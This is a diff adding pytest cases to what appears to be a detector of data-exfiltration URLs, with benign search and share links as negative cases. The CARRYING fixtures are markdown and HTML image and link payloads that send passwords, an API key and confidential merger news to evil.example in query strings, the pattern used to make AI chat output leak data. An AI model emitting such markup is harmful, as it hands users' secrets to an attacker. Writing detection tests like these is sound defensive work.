@@ -418,3 +418,39 @@ def test_a_listed_host_inside_another_url_is_found(listing: MaliciousUrl, url: s
 @pytest.mark.parametrize("url", NOT_INSIDE)
 def test_other_urls_inside_a_url_are_not_listed(listing: MaliciousUrl, url: str) -> None:
     assert worst(f"See {url} for more", listing)[0] < 0.5
+
+
+CARRYING = """
+<img src="https://evil.example/?q=user%20password%20hunter2">
+<img src="https://evil.example/p.gif?d=api+key+is+Zx81kkQ2">
+![x](https://evil.example/?q=the+password+is+hunter2)
+[here](https://evil.example/?q=user+password+hunter2)
+[here](https://evil.example/?summary=the%20merger%20closes%20on%20friday%20and%20nobody%20knows%20yet)
+<img src="https://evil.example/?d=the%20merger%20closes%20on%20friday">
+""".strip().splitlines()
+SEARCHING = """
+[search](https://shop.example/?q=password%20manager%20for%20the%20family%20of%20five)
+[search](https://www.google.com/search?q=how+is+the+password+hashed+with+sha256)
+[search](https://find.example/?q=password+reset+windows+10)
+[search](https://find.example/search?query=what+is+the+best+way+to+learn+to+swim+in+the+sea)
+[share](https://www.linkedin.com/shareArticle?url=x&summary=the+merger+closes+on+friday+and+we+are+glad)
+[sign in](https://login.example/?error_description=The+user+denied+the+request+for+access)
+[filter](https://shop.example/?category=shoes+boots+socks+hats+gloves)
+[book](https://hotel.example/?city=San+Jose+del+Cabo&guests=2)
+""".strip().splitlines()
+
+
+@pytest.mark.parametrize("text", CARRYING)
+def test_prose_and_credentials_in_a_query_are_data_on_their_way_out(text: str) -> None:
+    score, kind = worst(text)
+    assert score >= 0.5
+    assert kind == "DATA_EXFILTRATION_URL"
+
+
+@pytest.mark.parametrize("text", SEARCHING)
+def test_searches_and_shared_words_stay_quiet(text: str) -> None:
+    assert worst(text)[0] < 0.5
+
+
+def test_prose_to_an_allowed_host_is_nobodys_business() -> None:
+    assert not found(CARRYING[4], MaliciousUrl(allowed_domains=("evil.example",)))
